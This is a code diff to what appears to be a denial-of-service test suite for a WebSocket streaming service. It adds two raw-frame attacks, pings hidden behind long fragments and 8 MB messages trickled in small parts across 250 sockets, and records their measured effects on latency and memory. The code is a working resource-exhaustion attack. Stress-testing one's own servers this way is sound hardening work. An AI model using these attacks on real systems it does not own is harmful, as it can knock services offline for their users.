@@ -27,6 +27,7 @@ NUM_SOCKETS = 600
 NUM_REMEMBERING, REMEMBERED_BYTES = 60, 7_000_000
 NUM_UNFINISHED, UNFINISHED_BYTES = 80, 7_000_000
 NUM_FLOODED, FLOOD_S, NUM_WIDE = 64, 2.0, 8
+NUM_TRICKLED, NUM_PARTS, TRICKLE_S = 250, 500, 0.02
 ENDS = {"response.completed", "response.incomplete", "response.failed", "error"}
 GIVES_UP_S = 10.0
 """A sender that nobody reads waits that long."""
@@ -200,6 +201,31 @@ async def _control_frames(target: Target) -> None:
     await _flooded_sockets(target, b"\x89\x80\0\0\0\0" * 10_000)
 
 
+async def _pings_behind_fragments(target: Target) -> None:
+    """Send pings where the bytes of a long frame were expected to go on, and be parsed in long pieces."""
+    fragment = (9000).to_bytes(2, "big") + bytes(4) + b"x" * 9000
+    pings = b"\x89\x80\0\0\0\0" * 10_000
+    rounds = b"".join(b"\0\xfe" + fragment + pings for _ in range(4))
+    await _flooded_sockets(target, b"\x01\xfe" + fragment + pings + rounds + b"\x80\x80\0\0\0\0")
+
+
+async def _trickled_messages(target: Target) -> None:
+    """Send messages of 8 MB in parts of less than a page, on as many sockets as a key may have."""
+    part = b"x" * 4090
+    async with contextlib.AsyncExitStack() as held:
+        writers = []
+        for _ in range(NUM_TRICKLED):
+            reader, writer = await held.enter_async_context(_connection(target.url))
+            writer.write(_handshake(target))
+            await reader.readuntil(b"\r\n\r\n")
+            writer.write(b"\x81\xff" + (8_300_000).to_bytes(8, "big") + bytes(4))
+            writers.append(writer)
+        for _ in range(NUM_PARTS):
+            for writer in writers:
+                writer.write(part)
+            await asyncio.sleep(TRICKLE_S)
+
+
 async def _empty_fragments(target: Target) -> None:
     message = b"\x01\x80\0\0\0\0" + b"\0\x80\0\0\0\0" * 1000 + b"\x80\x80\0\0\0\0"
     await _flooded_sockets(target, message * 10)
@@ -272,6 +298,18 @@ ATTACKS = (
         name="control-frames",
         about="64 WebSockets send empty pings without pause: TTFT of 1.9 s, and /health took as long.",
         strike=_control_frames,
+        short_s=2.5,
+    ),
+    Attack(
+        name="pings-behind-fragments",
+        about="Fragments of 9 kB with 10,000 pings behind each: 64 KiB of them were parsed at once, TTFT of 0.2 s.",
+        strike=_pings_behind_fragments,
+        short_s=2.5,
+    ),
+    Attack(
+        name="trickled-messages",
+        about="250 messages of 8 MB come in parts below 4 KiB, which were not counted: 900 MiB, and rising.",
+        strike=_trickled_messages,
         short_s=2.5,
     ),
     Attack(
